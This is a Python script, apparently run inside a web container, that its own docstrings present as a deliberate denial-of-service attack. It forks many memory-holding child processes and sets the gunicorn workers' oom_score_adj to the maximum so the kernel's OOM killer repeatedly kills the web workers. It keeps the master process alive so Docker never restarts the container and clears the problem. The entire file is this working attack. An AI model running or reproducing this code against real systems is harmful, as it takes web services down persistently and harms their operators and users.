"""A runaway report inside the web container: ever more small processes, until memory is gone and stays gone.

The kernel's OOM killer takes the largest process, and here that is always a gunicorn worker: each of these is
smaller. Whatever room a killed worker leaves is taken at once, so its successor is killed as well.
"""

import os
import signal
import time
from pathlib import Path

PART = 4 << 20  # bytes a process
MOST = 200  # far more than fit


def expendable(pid: str, score: int) -> None:
    """Move a process to the front of the OOM killer's queue (anyone may do that to one's own user's)."""
    try:
        Path(f"/proc/{pid}/oom_score_adj").write_text(str(score))
    except OSError:
        return  # it has just been killed


def children(pid: int) -> list[str]:
    """The living children of a process; those of the container's first are gunicorn's workers."""
    return Path(f"/proc/{pid}/task/{pid}/children").read_text().split()


def hold() -> None:
    """Take a part of the memory and keep it."""
    expendable("self", 300)
    part = bytearray(os.urandom(4096) * (PART // 4096))
    while part:
        time.sleep(60)


def main() -> None:
    """Go on for ever: the master process must live, or Docker would restart the container and cure it."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the killed leave no zombies
    while True:
        for worker in children(1):
            expendable(worker, 1000)
        if len(children(os.getpid())) < MOST and os.fork() == 0:
            hold()
        time.sleep(0.002)


main()
